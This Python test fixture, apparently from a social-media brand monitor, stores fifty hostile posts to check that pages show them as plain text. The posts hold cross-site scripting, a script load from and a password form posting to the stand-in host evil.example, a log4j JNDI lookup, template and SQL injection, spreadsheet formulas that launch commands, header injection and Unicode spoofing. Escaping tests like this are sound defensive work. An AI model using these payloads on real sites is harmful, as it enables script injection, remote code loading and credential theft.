"""Fifty texts that somebody could post to hurt whoever reads them here; every page must show them as text."""

from __future__ import annotations

from datetime import datetime, timedelta

from monitor.store import Store
from monitor.types import Author, Post
from tests.builders import T0, put

HOSTILE: tuple[str, ...] = (
    "<script>document.title='owned'</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/beacon.png'>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<a href='javascript:alert(1)'>返金はこちら</a>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.cookie)//https://example.com",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "https://user:password@evil.example/login",
    'https://evil.example/"onmouseover="alert(1)',
    "https://evil.example/'><script>alert(1)</script>",
    "https://evil.example/?q=<b>&x=\u202egpj.exe",
    "http://[::1",
    "http://xn--80ak6aa92e.example/ https://аpple.example/",
    '"><script>alert(1)</script>',
    "' autofocus onfocus=alert(1) x='",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</bdi></p></li></ul><h1>管理者からのお知らせ</h1>",
    "<!-- <script>alert(1)</script> -->",
    "<style>*{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=password></form>",
    "<base href=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "{{ 7*7 }} {{ config }} {{ ctx.app.settings }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %> ${jndi:ldap://evil.example/a}",
    "%(name)s %s %n %x {0} {name.__class__}",
    "\u202eこの文章は逆向きに表示されます gpj.egami",
    "\u2067\u2066\u202a\u202d向きを変える文字\u202c\u2069",
    "مرحبا \u200fhow are you؟ שלום 123",
    "zero\u200bwidth\u200cjoin\u200der\u2060s\ufeff in a word",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘",
    "👩‍👩‍👧‍👦🏳️‍🌈👍🏿" * 20,
    "𠮷野家の𩸽定食 𝕬𝖑𝖊𝖗𝖙 ﷽﷽﷽",
    '=HYPERLINK("https://evil.example","返金")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1＋1 (full-width)",
    "'; DROP TABLE posts; --",
    "a\r\nSet-Cookie: monitor=evil\r\n\r\n<script>alert(1)</script>",
    "長" * 100_000,
    "no_spaces_" * 3000,
)
NETWORK = "x"


def with_hostile_posts(store: Store, at: datetime, brand: str = "みらい電機") -> list[str]:
    """Store every hostile text as a question to the brand, each by somebody with a hostile name; return the ids."""
    posts = []
    for i, text in enumerate(HOSTILE):
        name = HOSTILE[(i + 7) % 30]
        author = Author(id=f"x:hostile{i}", handle=f"h{i}<b>&\"'", name=name[:200], followers=i)
        posts.append(
            Post(
                id=f"x:hostile{i}",
                author=author,
                text=f"@mirai_denki hostile{i} {text} 返金してください?"[:100_000],
                created_at=at - timedelta(minutes=5 + i),
                url="javascript:alert(1)" if i % 2 else f'https://x.example/{i}?a="><script>',
                about=(brand,),
            )
        )
    put(store, *posts, now=int(at.timestamp()) - T0, brand=brand)  # builders count from their own beginning
    return [post.id for post in posts]
